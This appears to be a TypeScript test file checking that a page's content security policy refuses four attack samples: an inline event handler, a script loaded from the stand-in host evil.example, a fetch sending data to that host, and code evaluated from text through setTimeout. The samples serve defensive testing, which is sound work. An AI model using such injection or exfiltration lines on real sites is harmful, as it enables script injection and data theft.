import { browserPages, calm } from "../support/browserPages";

// Every test of a page fails if something else is refused.
const { open, refused } = browserPages();

const attacks: [string, string | (() => void)][] = [
  [
    "an injected script",
    () => {
      const frame = document.createElement("div");
      frame.setAttribute("onclick", "document.title = 'taken'");
      document.body.append(frame);
      frame.click();
    },
  ],
  [
    "a script from another host",
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/a.js";
      document.body.append(script);
    },
  ],
  ["words sent elsewhere", () => void fetch("https://evil.example/?words")],
  [
    "text that is evaluated",
    // The test's own code may evaluate text; a timer it leaves behind may not.
    "void setTimeout(() => new Function(`document.title = 'taken'`)())",
  ],
];

test.each(attacks)("the policy refuses %s", async (_what, attack) => {
  const page = await open("/about", calm);
  const refusal = page.waitForEvent("console", () => refused.length > 0);
  await page.evaluate(attack).catch(() => undefined);
  await refusal;
  expect(await page.title()).not.toBe("taken");
  expect(refused.splice(0)).not.toEqual([]);
});
